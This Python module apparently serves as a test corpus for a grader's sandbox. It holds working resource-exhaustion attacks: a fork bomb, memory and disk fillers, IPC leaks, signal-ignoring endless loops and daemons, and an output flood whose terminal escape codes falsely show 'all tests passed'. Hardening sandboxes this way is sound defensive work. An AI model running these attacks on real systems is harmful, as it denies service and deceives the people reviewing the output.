"""Attacks that use something up: processes, memory, disk, time, the grader's patience."""

from __future__ import annotations

from grader.rerun.attacks.corpus import attack


@attack(ends="any")
def fork_bomb(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """A fork bomb: processes that start processes."""
    import os
    import time

    until = time.monotonic() + 2
    while time.monotonic() < until:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


@attack(ends="any")
def thread_bomb(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Thousands of threads."""
    import threading
    import time

    for _ in range(5000):
        try:
            threading.Thread(target=time.sleep, args=(2,), daemon=True).start()
        except RuntimeError:
            return
    print("BREACH 5000 threads")


@attack(ends="memory")
def fill_memory(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Takes all memory."""
    import time

    held = []
    for _ in range(2000):
        held.append(bytearray(b"x") * (1 << 24))
        time.sleep(0.002)
    print("BREACH", len(held) * 16, "MB")


@attack(ends="any")
def fill_memory_in_children(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Takes all memory, spread over processes that are each small."""
    import os
    import time

    for _ in range(40):
        if os.fork() == 0:
            held = bytearray(b"x") * (20 << 20)
            time.sleep(3)
            os._exit(len(held) % 2)
    for _ in range(40):
        if os.wait()[1] != 0:
            return
    print("BREACH 800 MB in 40 processes")


@attack(ends="any")
def fill_tmp(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Fills /tmp."""
    import os

    written = 0
    try:
        for number in range(100):
            with open(f"{os.environ['TMPDIR']}/{number}", "wb") as file:
                for _ in range(20):
                    written += file.write(bytes(1 << 20))
    except OSError as error:
        print("stopped after", written >> 20, "MB:", error)
        return
    print("BREACH", written >> 20, "MB in /tmp")


@attack(ends="by itself")
def fill_shm(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Fills /dev/shm."""
    written = 0
    try:
        for number in range(100):
            with open(f"/dev/shm/{number}", "wb") as file:
                for _ in range(20):
                    written += file.write(bytes(1 << 20))
    except OSError as error:
        print("stopped after", written >> 20, "MB:", error)
        return
    print("BREACH", written >> 20, "MB in /dev/shm")


@attack(ends="any")
def fill_anonymous_files(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Fills memory with files that have no name (memfd) and are mapped nowhere."""
    import os

    written = 0
    held = []
    try:
        for _ in range(100):
            held.append(os.memfd_create("x"))
            for _ in range(20):
                written += os.write(held[-1], bytes(1 << 20))
    except OSError as error:
        print("stopped after", written >> 20, "MB:", error)
        return
    print("BREACH", written >> 20, "MB in memory files")


@attack(ends="by itself")
def exhaust_ipc(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Holds memory in shared segments and message queues that outlive their process."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    made = [libc.shmget(0, 1 << 20, 0o1600) for _ in range(8)]
    print("segments:", sum(number >= 0 for number in made), "key", port)


@attack(ends="output")
def fill_output(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Writes gigabytes to the output folder."""
    import time

    for number in range(1000):
        with open(f"{out}/{number:03d}.wav", "wb") as file:
            file.write(bytes(4 << 20))
        time.sleep(0.01)
    print("BREACH 4 GB written")


@attack(ends="any")
def many_files(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Makes a hundred thousand empty files."""

    for number in range(100_000):
        with open(f"{out}/{number}", "wb"):
            pass
    print("BREACH 100000 files")


@attack(ends="any")
def deep_folders(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Makes folders so deep that their path is longer than the system allows."""
    import os

    os.chdir(out)
    for _ in range(3000):
        os.mkdir("deeper")
        os.chdir("deeper")


@attack(ends="any")
def output_is_huge(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Leaves a clip that claims ten gigabytes, with holes for content."""

    try:
        with open(f"{out}/001.wav", "wb") as file:
            file.truncate(10_000_000_000)
        print("BREACH a file of 10 GB")
    except OSError as error:
        print(error)


@attack(ends="wall")
def endless_sleep(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Waits for ever."""
    import time

    time.sleep(3600)


@attack(ends="cpu")
def endless_loop(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Computes for ever, with every signal ignored that can be."""
    import signal

    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        pass


@attack(ends="log")
def endless_output(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Prints for ever, with sequences that would rewrite the TA's terminal."""
    import os

    while True:
        os.write(1, b"\x1b[2J\x1b]0;all tests passed\x07" + b"y\n" * 30000)


@attack(ends="by itself")
def leave_a_daemon(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Leaves a process behind: double fork, a session of its own, every signal ignored."""
    import os
    import signal
    import time

    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, 32):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except OSError:
                    pass
            time.sleep(1000 + int(port) / 1e6)  # a number the tests can look for
        os._exit(0)
    os.wait()
    print("left a daemon behind")
